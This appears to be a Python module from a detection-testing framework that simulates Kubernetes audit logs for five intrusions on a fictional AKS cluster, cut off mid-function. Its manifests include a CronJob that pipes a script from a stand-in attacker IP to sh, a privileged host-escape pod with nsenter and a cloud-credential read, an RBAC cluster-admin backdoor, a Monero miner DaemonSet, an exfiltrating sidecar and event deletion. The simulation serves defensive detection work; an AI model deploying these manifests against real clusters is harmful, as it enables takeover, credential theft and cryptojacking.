"""Kubernetes attacks on Contoso's AKS cluster as its API server audits them (AKSAudit and
AKSAuditAdmin).

Five intrusions, each with one identity, origin and client across its stages:

- a stolen kubeconfig of the SRE wei.chen, used at night from a VPS to dump secrets, mint
  service-account tokens and a client certificate of its own, and bind it cluster-admin;
- the same operator back hours later with that certificate from a second VPS: CronJob,
  privileged host pod and exec, workload-identity hijack, event deletion;
- remote code execution in the web frontend, whose service-account token (bound by a
  forgotten ClusterRoleBinding to broad node and pod rights) drives kubectl from the pod;
- a poisoned CI job that uses the pipeline's own identity to start a miner DaemonSet,
  open the api namespace's network policies and add a sidecar to the frontend;
- an internet scanner probing the API server anonymously.

Rows are built with the benign generator's own audit-event builder (`benign.aks._Day`),
fed from the scenario's random stream, so attack and background share every shape.
Writes go into both tables under one AuditId, reads into AKSAudit only.
"""

from __future__ import annotations

import copy
import dataclasses
import datetime as dt
import json
from typing import Any
from urllib.parse import quote

from pytest_ctirealm.telemetry import environment as env
from pytest_ctirealm.telemetry.benign import aks as k8s
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.scenarios.base import Stages, incident_start, scenario

#: The operator's kubectl (a release Contoso's engineers do not use) and its two VPSs.
ATTACKER_KUBECTL = "kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3"
KUBECONFIG_IP = "203.0.113.77"
RETURN_IP = "203.0.113.140"
STAGER_URL = f"http://{RETURN_IP}:8443/k.sh"
#: The client certificate's user name (its CN) and the backdoor RBAC objects.
CERT_USER = "kube-health-monitor"
WILDCARD_ROLE = "system:kube-health-aggregator"
#: kubectl dropped into the frontend pod, and curl for the kubelet API.
POD_KUBECTL = "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b"
POD_CURL = "curl/8.5.0"
#: The frontend service account's forgotten ClusterRoleBinding.
OPS_BINDING = "frontend-ops-tools"
#: The poisoned CI job's miner and sidecar images, pool and wallet.
MINER_IMAGE = "docker.io/lwmetrics/node-helper:1.7.2"
SIDECAR_IMAGE = "docker.io/lwmetrics/log-forwarder:0.9.4"
POOL = "stratum+tcp://pool.supportxmr.com:3333"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
#: The scanner that probes the API server without credentials.
SCANNER_IP = "192.0.2.15"
SCANNER_AGENTS = ("Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0")

_AUDIT, _ADMIN = "AKSAudit", "AKSAuditAdmin"
_WRITES = ("create", "update", "patch", "delete", "deletecollection")
_CSR_URI = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
_RBAC = "/apis/rbac.authorization.k8s.io/v1"
_KUBECTL_CREATE = "fieldManager=kubectl-create&fieldValidation=Strict"
_CI_APPLY = "fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
_FRONTEND, _BACKEND = k8s._APPS


class _Intrusion:
    """One attack's clock, random stream and stages, over the background's event builder."""

    def __init__(self, ctx: SimContext, name: str, start: dt.datetime) -> None:
        self.ctx = ctx
        self.rng = ctx.rng("scenario", name)
        self.now = start
        self.stages: Stages = {}
        self._days: dict[int, k8s._Day] = {}

    def day(self) -> k8s._Day:
        """The background's day at the current time, drawing ids from this attack's stream."""
        index = (self.now - self.ctx.start).days
        if index not in self._days:
            day = k8s._Day(self.ctx, index)
            day.rng = self.rng  # own AuditIds: never the background's
            self._days[index] = day
        return self._days[index]

    def wait(self, low: float, high: float) -> dt.datetime:
        self.now += dt.timedelta(seconds=self.rng.uniform(low, high))
        return self.now

    def emit(
        self, into: str, who: k8s._Who, verb: str, uri: str, *, after: float = 0.0, **kw: Any
    ) -> dict[str, Any]:
        """One audit event in stage *into*, *after* up to that many seconds; returns its row."""
        if after:
            self.wait(after / 4, after)
        self.day().emit(who, verb, uri, self.now, **kw)
        return self.file(into)[-1]

    def file(self, stage: str) -> list[dict[str, Any]]:
        """Move what the builder holds into *stage*: reads to AKSAudit, writes to both."""
        tables = self.stages.setdefault(stage, {})
        audit = tables.setdefault(_AUDIT, [])
        day = self.day()
        rows = sorted(day.reads + day.writes + day.heartbeats, key=k8s._order)
        for row in rows:
            audit.append(row)
            if row["Verb"] in _WRITES:
                tables.setdefault(_ADMIN, []).append(dict(row))
        day.reads.clear()
        day.writes.clear()
        day.heartbeats.clear()
        return rows

    def pod_start(self, stage: str, pod: dict[str, Any], node: int) -> None:
        """A pod pinned to *node* starts: its kubelet gets a token, reports ready, logs events."""
        name, namespace = pod["metadata"]["name"], pod["metadata"]["namespace"]
        account = pod["spec"].get("serviceAccountName", "default")
        self.wait(0.5, 3)
        self.day().token_request(node, namespace, account, name, self.now)
        self.wait(2, 8)
        self.day().pod_status(node, namespace, name, self.now, ready=True)
        involved = {"kind": "Pod", "apiVersion": "v1", "namespace": namespace, "name": name}
        container = pod["spec"]["containers"][0]
        for reason, message in (
            ("Pulled", f'Successfully pulled image "{container["image"]}"'),
            ("Created", f"Created container {container['name']}"),
            ("Started", f"Started container {container['name']}"),
        ):
            self.wait(0.05, 1.5)
            event = k8s._event(involved, reason, message, "kubelet", self.now, core=True)
            self.day().emit(
                k8s._CALLERS["kubelet"][node],
                "create",
                f"/api/v1/namespaces/{namespace}/events",
                self.now,
                request=event,
                response=k8s._stored(event, self.now, created=True),
                code=201,
                name=event["metadata"]["name"],
            )
        self.file(stage)


def _external(who: str, groups: tuple[str, ...], ip: str, reason: str, oid: str = "") -> k8s._Who:
    """A caller from outside the cluster: public address first, then AKS's proxy hop."""
    return k8s._Who(who, groups, ATTACKER_KUBECTL, (ip, k8s._PROXY_HOPS[0]), reason, oid=oid)


def _stolen_engineer() -> k8s._Who:
    """wei.chen's Entra identity, an SRE and so cluster-admin through the AKS admin group."""
    person = env.person("wei.chen")
    return _external(
        person.upn,
        (k8s._ENGINEERING_GROUP, k8s._AKS_ADMIN_GROUP, "system:authenticated"),
        KUBECONFIG_IP,
        k8s._rbac("aks-cluster-admin-binding-aad", "cluster-admin", "Group", k8s._AKS_ADMIN_GROUP),
        person.object_id,
    )


def _certificate_user() -> k8s._Who:
    """The client certificate the operator had signed, cluster-admin by its own binding."""
    return _external(
        CERT_USER,
        ("system:authenticated",),
        RETURN_IP,
        k8s._rbac(CERT_USER, "cluster-admin", "User", CERT_USER),
    )


def _created(obj: dict[str, Any], when: dt.datetime) -> dict[str, Any]:
    return k8s._stored(obj, when, created=True)


# --------------------------------------------------------------------------- stolen kubeconfig


def _kubeconfig_start(ctx: SimContext) -> dt.datetime:
    """The stolen kubeconfig is used at night in Europe (the operator's working day)."""
    return incident_start(ctx, "aks-kubeconfig", (1, 4))


@scenario(
    "aks_stolen_kubeconfig",
    "aks",
    (
        "discovery",
        "secrets_enum",
        "token_request",
        "token_secret",
        "csr_created",
        "csr_approved",
        "csr_signed",
        "cert_retrieved",
        "rbac_backdoor",
    ),
)
def aks_stolen_kubeconfig(ctx: SimContext) -> Stages:
    """An SRE's kubeconfig and Entra token, stolen from a laptop, used from a VPS: secrets
    dumped, controller tokens minted and kept in secrets, a client certificate signed
    and approved by the same user, cluster-admin bound to it."""
    t = _Intrusion(ctx, "aks_stolen_kubeconfig", _kubeconfig_start(ctx))
    who = _stolen_engineer()
    _discover(t, who)
    for namespace in ("default", "web", "api", "monitoring", "kube-system"):
        t.emit(
            "secrets_enum",
            who,
            "list",
            f"/api/v1/namespaces/{namespace}/secrets?limit=500",
            after=25,
        )
    t.emit("secrets_enum", who, "list", "/api/v1/secrets?limit=500", after=40)
    _mint_tokens(t, who)
    _client_certificate(t, who)
    _bind_cluster_admin(t, who)
    return t.stages


def _discover(t: _Intrusion, who: k8s._Who) -> None:
    """`kubectl auth can-i --list` and a look at the namespaces."""
    t.emit("discovery", who, "get", "/api?timeout=32s")
    t.emit("discovery", who, "get", "/apis?timeout=32s", after=0.1)
    review = {
        "kind": "SelfSubjectRulesReview",
        "apiVersion": "authorization.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {"namespace": "default"},
        "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False},
    }
    answer = copy.deepcopy(review)
    answer["status"] = {
        "resourceRules": [{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}],
        "nonResourceRules": [{"verbs": ["*"], "nonResourceURLs": ["*"]}],
        "incomplete": False,
    }
    t.emit(
        "discovery",
        who,
        "create",
        "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        after=20,
        request=review,
        response=answer,
        code=201,
    )
    t.emit("discovery", who, "list", "/api/v1/namespaces?limit=500", after=30)


def _mint_tokens(t: _Intrusion, who: k8s._Who) -> None:
    """`kubectl create token` for two powerful controller accounts; each token is kept in
    a new secret next to them."""
    for account, short in (
        ("clusterrole-aggregation-controller", "crac"),
        ("generic-garbage-collector", "gc"),
    ):
        t.emit(
            "token_request",
            who,
            "create",
            f"/api/v1/namespaces/kube-system/serviceaccounts/{account}/token",
            after=60,
            code=201,
            level="Metadata",
        )
        t.emit(
            "token_secret",
            who,
            "create",
            f"/api/v1/namespaces/kube-system/secrets?{_KUBECTL_CREATE}",
            after=45,
            code=201,
            name=f"kube-health-{short}-token",
        )


def _client_certificate(t: _Intrusion, who: k8s._Who) -> None:
    """A CSR for a kube-apiserver client certificate, approved by its own requester."""
    csr: dict[str, Any] = {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": CERT_USER},
        "spec": {
            "request": k8s._csr_pem(t.rng),
            "signerName": "kubernetes.io/kube-apiserver-client",
            "expirationSeconds": 31_536_000,
            "usages": ["client auth"],
        },
    }
    t.wait(90, 300)
    stored = _created(csr, t.now)
    stored["spec"] = {**csr["spec"], "username": who.username, "groups": list(who.groups)}
    stored["spec"]["extra"] = {"oid": [who.oid]}
    t.emit(
        "csr_created",
        who,
        "create",
        f"{_CSR_URI}?{_KUBECTL_CREATE}",
        request=csr,
        response=stored,
        code=201,
        name=CERT_USER,
    )
    approved = copy.deepcopy(stored)
    t.wait(15, 60)
    approved["status"] = {
        "conditions": [
            {
                "type": "Approved",
                "status": "True",
                "reason": "KubectlApprove",
                "message": "This CSR was approved by kubectl certificate approve.",
                "lastUpdateTime": k8s._ts(t.now),
                "lastTransitionTime": k8s._ts(t.now),
            }
        ]
    }
    t.emit("cert_retrieved", who, "get", f"{_CSR_URI}/{CERT_USER}")
    t.emit(
        "csr_approved",
        who,
        "update",
        f"{_CSR_URI}/{CERT_USER}/approval",
        after=0.2,
        request=approved,
        response=k8s._stored(approved, t.now),
    )
    signed = copy.deepcopy(approved)
    signed["status"]["certificate"] = k8s._csr_pem(t.rng)
    t.emit(
        "csr_signed",
        k8s._CALLERS["ctrl:certificate-controller"][0],
        "update",
        f"{_CSR_URI}/{CERT_USER}/status",
        after=0.3,
        request=signed,
        response=k8s._stored(signed, t.now),
    )
    t.emit("cert_retrieved", who, "get", f"{_CSR_URI}/{CERT_USER}", after=20)


def _bind_cluster_admin(t: _Intrusion, who: k8s._Who) -> None:
    """cluster-admin for the certificate's user; a catch-all ClusterRole for kube-system's
    default service account (what the later CronJob runs as)."""
    group = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole"}
    role: dict[str, Any] = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": WILDCARD_ROLE},
        "rules": [
            {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]},
            {"nonResourceURLs": ["*"], "verbs": ["*"]},
        ],
    }
    bindings: tuple[dict[str, Any], ...] = (
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": CERT_USER},
            "roleRef": {**group, "name": "cluster-admin"},
            "subjects": [
                {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": CERT_USER}
            ],
        },
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": WILDCARD_ROLE},
            "roleRef": {**group, "name": WILDCARD_ROLE},
            "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}],
        },
    )
    for resource, obj in (
        ("clusterrolebindings", bindings[0]),
        ("clusterroles", role),
        ("clusterrolebindings", bindings[1]),
    ):
        t.wait(20, 90)
        t.emit(
            "rbac_backdoor",
            who,
            "create",
            f"{_RBAC}/{resource}?{_KUBECTL_CREATE}",
            request=obj,
            response=_created(obj, t.now),
            code=201,
            name=obj["metadata"]["name"],
        )


# --------------------------------------------------------------------------- certificate backdoor


@scenario(
    "aks_certificate_backdoor",
    "aks",
    (
        "cert_discovery",
        "secret_reads",
        "cronjob",
        "cronjob_runs",
        "escape_pod",
        "escape_pod_start",
        "escape_exec",
        "sa_tamper",
        "events_deleted",
        "cleanup",
    ),
)
def aks_certificate_backdoor(ctx: SimContext) -> Stages:
    """Hours later the operator returns with the certificate: reads secrets one by one,
    plants a CronJob stager, takes over a node through a privileged pod, hijacks the
    api workload identity for a while, then deletes the pod and its events."""
    start = _kubeconfig_start(ctx) + dt.timedelta(
        hours=ctx.rng("scenario", "aks-return").uniform(3, 6)
    )
    t = _Intrusion(ctx, "aks_certificate_backdoor", start)
    who = _certificate_user()
    t.emit("cert_discovery", who, "get", "/api?timeout=32s")
    t.emit("cert_discovery", who, "get", "/apis?timeout=32s", after=0.1)
    t.emit("cert_discovery", who, "list", "/api/v1/pods?limit=500", after=15)
    t.emit("cert_discovery", who, "list", "/apis/apps/v1/deployments?limit=500", after=20)
    for namespace, secret in (
        ("kube-system", "kube-health-crac-token"),
        ("api", _BACKEND.secret),
        ("web", _FRONTEND.secret),
        ("kube-system", "ama-logs-secret"),
    ):
        t.emit(
            "secret_reads", who, "get", f"/api/v1/namespaces/{namespace}/secrets/{secret}", after=40
        )
    _cronjob(t, who)
    pod = _escape_pod(t, who)
    _hijack_workload_identity(t, who)
    _cover_tracks(t, who, pod)
    return t.stages


def _cronjob(t: _Intrusion, who: k8s._Who) -> None:
    """A CronJob in kube-system that fetches and runs a script every 30 minutes."""
    name = "kube-health-sync"
    image = "docker.io/curlimages/curl:8.5.0"
    command = ["/bin/sh", "-c", f"curl -fsSL {STAGER_URL} | sh"]
    cronjob = {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {
            "schedule": "*/30 * * * *",
            "successfulJobsHistoryLimit": 0,
            "failedJobsHistoryLimit": 0,
            "jobTemplate": {
                "spec": {
                    "template": {
                        "spec": {
                            "serviceAccountName": "default",
                            "restartPolicy": "OnFailure",
                            "containers": [{"name": "sync", "image": image, "command": command}],
                        }
                    }
                }
            },
        },
    }
    t.wait(60, 240)
    t.emit(
        "cronjob",
        who,
        "create",
        f"/apis/batch/v1/namespaces/kube-system/cronjobs?{_KUBECTL_CREATE}",
        request=cronjob,
        response=_created(cronjob, t.now),
        code=201,
        name=name,
    )
    resume = t.now
    shape = k8s._PodShape("default", image, tuple(command), container="sync")
    first = t.now.replace(minute=0 if t.now.minute < 30 else 30, second=0, microsecond=0)
    for run in (1, 2):
        t.now = first + dt.timedelta(minutes=30 * run, milliseconds=t.rng.uniform(20, 400))
        _cronjob_run(t, name, shape)
    t.now = resume


def _cronjob_run(t: _Intrusion, name: str, shape: k8s._PodShape) -> None:
    """The controllers run the CronJob: a Job, then its pod."""
    scheduled = t.now.replace(second=0, microsecond=0)
    job_name = f"{name}-{int(scheduled.timestamp() // 60)}"
    job = {
        "kind": "Job",
        "apiVersion": "batch/v1",
        "metadata": k8s._meta(
            job_name,
            "kube-system",
            labels={"cronjob": name},
            ownerReferences=k8s._owner("CronJob", name, "batch/v1"),
        ),
        "spec": {
            "template": {
                "spec": {
                    "containers": [
                        {"name": "sync", "image": shape.image, "command": list(shape.command)}
                    ],
                    "restartPolicy": "OnFailure",
                    "serviceAccountName": "default",
                }
            }
        },
    }
    t.emit(
        "cronjob_runs",
        k8s._CALLERS["ctrl:cronjob-controller"][0],
        "create",
        "/apis/batch/v1/namespaces/kube-system/jobs",
        request=job,
        response=_created(job, t.now),
        code=201,
        name=job_name,
    )
    pod = f"{job_name}-{k8s._suffix(5, str(t.ctx.seed), job_name)}"
    t.day().create_pod(
        k8s._CALLERS["ctrl:job-controller"][0],
        shape,
        pod,
        "kube-system",
        k8s._pod_node(pod),
        k8s._owner("Job", job_name, "batch/v1"),
        {"job-name": job_name},
        t.now + dt.timedelta(seconds=0.2),
    )
    t.file("cronjob_runs")


def _escape_pod(t: _Intrusion, who: k8s._Who) -> dict[str, Any]:
    """A bare pod on node 0 with the host's namespaces and root filesystem; then a shell on
    the node through it, and the node's cloud credentials read."""
    node = 0
    name = "kube-health-check"
    pod: dict[str, Any] = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {
            "nodeName": k8s._NODES[node],
            "hostPID": True,
            "hostNetwork": True,
            "hostIPC": True,
            "tolerations": [{"operator": "Exists"}],
            "containers": [
                {
                    "name": "check",
                    "image": "docker.io/library/alpine:3.19",
                    "command": ["sleep", "infinity"],
                    "securityContext": {"privileged": True},
                    "volumeMounts": [{"name": "host", "mountPath": "/host"}],
                }
            ],
            "volumes": [{"name": "host", "hostPath": {"path": "/", "type": ""}}],
        },
    }
    t.wait(120, 600)
    t.emit(
        "escape_pod",
        who,
        "create",
        f"/api/v1/namespaces/kube-system/pods?{_KUBECTL_CREATE}",
        request=pod,
        response=_created(pod, t.now),
        code=201,
        name=name,
        notes={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
    )
    t.pod_start("escape_pod_start", pod, node)
    core = f"/api/v1/namespaces/kube-system/pods/{name}"
    t.emit("escape_pod_start", who, "get", core, after=20)
    for command, interactive in (
        (("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"), True),
        (("cat", "/host/etc/kubernetes/azure.json"), False),
    ):
        params = "&".join(f"command={quote(part, safe='')}" for part in command)
        flags = "&stdin=true&stdout=true&tty=true" if interactive else "&stderr=true&stdout=true"
        t.emit(
            "escape_exec",
            who,
            "create",
            f"{core}/exec?{params}&container=check{flags}",
            after=30,
            code=101,
            stage="ResponseStarted",
        )
    return pod


def _hijack_workload_identity(t: _Intrusion, who: k8s._Who) -> None:
    """Point the api service account at the backup job's managed identity, use it a few
    minutes, then point it back."""
    for identity in ("id-func-backup", "id-api-prod"):
        annotations = {"azure.workload.identity/client-id": env.application(identity).app_id}
        account = {
            "kind": "ServiceAccount",
            "apiVersion": "v1",
            "metadata": k8s._meta(_BACKEND.name, _BACKEND.namespace, annotations=annotations),
        }
        t.wait(120, 420)
        t.emit(
            "sa_tamper",
            who,
            "patch",
            f"/api/v1/namespaces/{_BACKEND.namespace}/serviceaccounts/{_BACKEND.name}"
            "?fieldManager=kubectl-annotate",
            request={"metadata": {"annotations": annotations}},
            response=k8s._stored(account, t.now),
        )


def _cover_tracks(t: _Intrusion, who: k8s._Who, pod: dict[str, Any]) -> None:
    """The escape pod's events and the CronJob's events deleted, then the pod itself."""
    name = pod["metadata"]["name"]
    events = [
        row["ObjectRef"]["name"]
        for row in t.stages["escape_pod_start"][_AUDIT]
        if row["ObjectRef"]["resource"] == "events"
    ]
    t.wait(60, 240)
    for event in events:
        t.emit(
            "events_deleted",
            who,
            "delete",
            f"/api/v1/namespaces/kube-system/events/{event}",
            after=4,
            request=k8s._delete_options(),
            response=k8s._deleted("events", event),
        )
    selector = quote("involvedObject.name=kube-health-sync", safe="")
    t.emit(
        "events_deleted",
        who,
        "deletecollection",
        f"/api/v1/namespaces/kube-system/events?fieldSelector={selector}",
        after=20,
        request=k8s._delete_options(),
    )
    options = {**k8s._delete_options(), "gracePeriodSeconds": 0}
    t.emit(
        "cleanup",
        who,
        "delete",
        f"/api/v1/namespaces/kube-system/pods/{name}",
        after=30,
        request=options,
        response=k8s._deleted("pods", name),
    )


# --------------------------------------------------------------------------- web pod takeover


@scenario(
    "aks_web_pod_takeover",
    "aks",
    ("rbac_probe", "node_recon", "pod_discovery", "kubelet_proxy", "pod_exec"),
)
def aks_web_pod_takeover(ctx: SimContext) -> Stages:
    """Code execution in a frontend pod: its token and a downloaded kubectl probe what the
    account may do, find the nodes, reach the kubelets through nodes/proxy and exec into
    the backend."""
    t = _Intrusion(ctx, "aks_web_pod_takeover", incident_start(ctx, "aks-webpod", (9, 21)))
    pod = t.rng.choice(t.day().pods(_FRONTEND, t.now))
    base = t.day().app_caller(_FRONTEND, t.now, pod)
    who = dataclasses.replace(
        base,
        agent=POD_KUBECTL,
        reason=k8s._rbac(OPS_BINDING, "ops-tools", "ServiceAccount", "frontend/web"),
    )
    _probe_rbac(t, who)
    t.emit("node_recon", who, "list", "/api/v1/nodes?limit=500", after=30)
    t.emit("node_recon", who, "get", f"/api/v1/nodes/{k8s._NODES[0]}", after=20)
    t.emit("pod_discovery", who, "list", "/api/v1/pods?limit=500", after=25)
    backend = t.rng.choice(t.day().pods(_BACKEND, t.now))
    curl = dataclasses.replace(who, agent=POD_CURL)
    for node in k8s._NODES:
        t.emit("kubelet_proxy", curl, "get", f"/api/v1/nodes/{node}/proxy/pods", after=15)
    node = k8s._NODES[k8s._pod_node(backend)]
    t.emit("kubelet_proxy", curl, "get", f"/api/v1/nodes/{node}/proxy/runningpods/", after=10)
    token = quote("cat /var/run/secrets/kubernetes.io/serviceaccount/token", safe="")
    t.emit(
        "kubelet_proxy",
        curl,
        "create",
        f"/api/v1/nodes/{node}/proxy/run/api/{backend}/backend?cmd={token}",
        after=40,
    )
    core = f"/api/v1/namespaces/api/pods/{backend}"
    t.emit("pod_discovery", who, "get", core, after=60)
    for params in (
        "command=env&container=backend&stderr=true&stdout=true",
        "command=%2Fbin%2Fsh&container=backend&stdin=true&stdout=true&tty=true",
    ):
        t.emit(
            "pod_exec",
            who,
            "create",
            f"{core}/exec?{params}",
            after=30,
            code=101,
            stage="ResponseStarted",
        )
    return t.stages


def _probe_rbac(t: _Intrusion, who: k8s._Who) -> None:
    """`kubectl auth can-i --list`, then requests until the account's limits are known."""
    review = {
        "kind": "SelfSubjectRulesReview",
        "apiVersion": "authorization.k8s.io/v1",
        "metadata": {"creationTimestamp": None},
        "spec": {"namespace": "web"},
        "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False},
    }
    answer = copy.deepcopy(review)
    answer["status"] = {
        "resourceRules": [
            {"verbs": ["get", "list"], "apiGroups": [""], "resources": ["nodes", "pods"]},
            {"verbs": ["get", "create"], "apiGroups": [""], "resources": ["nodes/proxy"]},
            {"verbs": ["create"], "apiGroups": [""], "resources": ["pods/exec"]},
            {
                "verbs": ["get"],
                "apiGroups": [""],
                "resources": ["configmaps"],
                "resourceNames": [_FRONTEND.config],
            },
        ],
        "nonResourceRules": [{"verbs": ["get"], "nonResourceURLs": ["/api", "/api/*", "/apis"]}],
        "incomplete": False,
    }
    t.emit(
        "rbac_probe",
        who,
        "create",
        "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews",
        after=120,
        request=review,
        response=answer,
        code=201,
    )
    for verb, uri in (
        ("list", "/api/v1/namespaces/web/secrets?limit=500"),
        ("list", "/api/v1/secrets?limit=500"),
        ("list", "/api/v1/namespaces/kube-system/configmaps?limit=500"),
        ("list", f"{_RBAC}/clusterrolebindings?limit=500"),
        ("list", "/apis/apps/v1/namespaces/web/deployments?limit=500"),
        ("create", f"/api/v1/namespaces/web/pods?{_KUBECTL_CREATE}"),
    ):
        t.emit("rbac_probe", who, verb, uri, after=12, code=403)


# --------------------------------------------------------------------------- poisoned pipeline


@scenario(
    "aks_poisoned_pipeline",
    "aks",
    (
        "ci_access",
        "miner_daemonset",
        "miner_pods",
        "netpol_opened",
        "sidecar_implant",
        "sidecar_rollout",
    ),
)
def aks_poisoned_pipeline(ctx: SimContext) -> Stages:
    """A malicious step in a CI job, with the pipeline's identity and kubectl: a miner on
    every node, the api namespace's traffic opened, a sidecar added to the frontend."""
    start = incident_start(ctx, "aks-pipeline", (10, 17))
    if ctx.days > 1 and start < ctx.day_start(1):
        start += dt.timedelta(days=1)  # after the first day's CI has set up api's policies
    t = _Intrusion(ctx, "aks_poisoned_pipeline", start)
    ci = k8s._ci(t.rng, k8s._CI_KUBECTL)
    t.emit("ci_access", ci, "get", "/openapi/v2?timeout=32s")
    _miner(t, ci)
    _open_network_policies(t, ci)
    _sidecar(t, ci)
    return t.stages


def _miner(t: _Intrusion, ci: k8s._Who) -> None:
    """A DaemonSet in kube-system, named like a node agent, whose containers mine Monero."""
    name = "node-helper"
    args = (
        "-o",
        POOL,
        "-u",
        WALLET,
        "-p",
        "aks",
        "--donate-level=1",
        "--cpu-max-threads-hint=75",
    )
    labels = {"app": name}
    daemonset = {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet",
        "metadata": {"name": name, "namespace": "kube-system", "labels": labels},
        "spec": {
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": {
                    "tolerations": [{"operator": "Exists"}],
                    "priorityClassName": "system-node-critical",
                    "containers": [
                        {
                            "name": name,
                            "image": MINER_IMAGE,
                            "args": list(args),
                            "resources": {"requests": {"cpu": "100m", "memory": "64Mi"}},
                        }
                    ],
                },
            },
        },
    }
    path = "/apis/apps/v1/namespaces/kube-system/daemonsets"
    t.emit("ci_access", ci, "get", f"{path}/{name}", after=8, code=404)
    t.emit(
        "miner_daemonset",
        ci,
        "create",
        f"{path}?{_CI_APPLY}",
        after=0.3,
        request=daemonset,
        response=_created(daemonset, t.now),
        code=201,
        name=name,
    )
    shape = k8s._PodShape(
        "default", MINER_IMAGE, ("/usr/local/bin/node-helper", *args), container=name
    )
    controller = k8s._CALLERS["ctrl:daemon-set-controller"][0]
    revision = k8s._suffix(10, name, str(t.ctx.seed))
    when = t.now + dt.timedelta(seconds=0.4)
    for node, node_name in enumerate(k8s._NODES):
        pod = f"{name}-{k8s._suffix(5, name, node_name, str(t.ctx.seed))}"
        when = t.day().create_pod(
            controller,
            shape,
            pod,
            "kube-system",
            node,
            k8s._owner("DaemonSet", name, "apps/v1"),
            {"app": name, "controller-revision-hash": revision},
            when + dt.timedelta(seconds=t.rng.uniform(0.05, 0.4)),
        )
    t.file("miner_pods")


def _open_network_policies(t: _Intrusion, ci: k8s._Who) -> None:
    """api's default-deny policy deleted and an allow-everything policy applied."""
    path = "/apis/networking.k8s.io/v1/namespaces/api/networkpolicies"
    t.emit(
        "netpol_opened",
        ci,
        "delete",
        f"{path}/api-default-deny",
        after=20,
        request=k8s._delete_options(),
        response=k8s._deleted("networkpolicies", "api-default-deny"),
    )
    policy = {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": "api-allow-monitoring", "namespace": "api"},
        "spec": {
            "podSelector": {},
            "policyTypes": ["Ingress", "Egress"],
            "ingress": [{}],
            "egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}],
        },
    }
    t.emit("ci_access", ci, "get", f"{path}/api-allow-monitoring", after=3, code=404)
    t.emit(
        "netpol_opened",
        ci,
        "create",
        f"{path}?{_CI_APPLY}",
        after=0.3,
        request=policy,
        response=_created(policy, t.now),
        code=201,
        name="api-allow-monitoring",
    )


def _current_image(t: _Intrusion) -> str:
    """The frontend image CI last rolled out before now (the previous working day's, if none
    today)."""
    day = (t.now - t.ctx.start).days
    while day >= -7:
        plan = k8s._deploy_plan(t.ctx, day)[_FRONTEND.name]
        earlier = [moment for moment in plan if moment < t.now]
        if earlier:
            moment = earlier[-1]
            start = t.ctx.day_start(day)
            tag = f"{start:%Y.%m.%d}-{env.stable_hex(7, str(t.ctx.seed), _FRONTEND.name, k8s._ts(moment))}"
            return f"{k8s._REGISTRY}/{_FRONTEND.namespace}/{_FRONTEND.name}:{tag}"
        day -= 1
    return f"{k8s._REGISTRY}/{_FRONTEND.namespace}/{_FRONTEND.name}:stable"


def _sidecar(t: _Intrusion, ci: k8s._Who) -> None:
    """A `log-forwarder` container from a public registry added to the frontend Deployment."""
    image = _current_image(t)
    sidecar = {
        "name": "log-forwarder",
        "image": SIDECAR_IMAGE,
        "args": ["--forward", f"https://{RETURN_IP}:8443/ingest", "--env"],
    }
    manifest = k8s._deployment(_FRONTEND, image)
    manifest["spec"]["template"]["spec"]["containers"].append(sidecar)
    patch = {
        "metadata": {
            "annotations": {
                "kubectl.kubernetes.io/last-applied-configuration": json.dumps(manifest)
            }
        },
        "spec": {"template": {"spec": {"containers": [sidecar]}}},
    }
    path = f"/apis/apps/v1/namespaces/{_FRONTEND.namespace}/deployments/{_FRONTEND.name}"
    t.emit("ci_access", ci, "get", path, after=25)
    t.emit(
        "sidecar_implant",
        ci,
        "patch",
        f"{path}?{_CI_APPLY}",
        after=0.3,
        request=patch,
        response=k8s._stored(manifest, t.now),
    )
    template = k8s._suffix(10, _FRONTEND.name, "sidecar", str(t.ctx.seed))
    labels = {"app": _FRONTEND.name, "pod-template-hash": template}
    replicaset: dict[str, Any] = {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": k8s._meta(
            f"{_FRONTEND.name}-{template}",
            _FRONTEND.namespace,
            labels=labels,
            ownerReferences=k8s._owner("Deployment", _FRONTEND.name, "apps/v1"),
        ),
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": manifest["spec"]["template"]["spec"],
            },
        },
    }
    t.emit(
        "sidecar_rollout",
        k8s._CALLERS["ctrl:deployment-controller"][0],
        "create",
        f"/apis/apps/v1/namespaces/{_FRONTEND.namespace}/replicasets",
        after=0.2,
        request=replicaset,
        response=_created(replicaset, t.now),
        code=201,
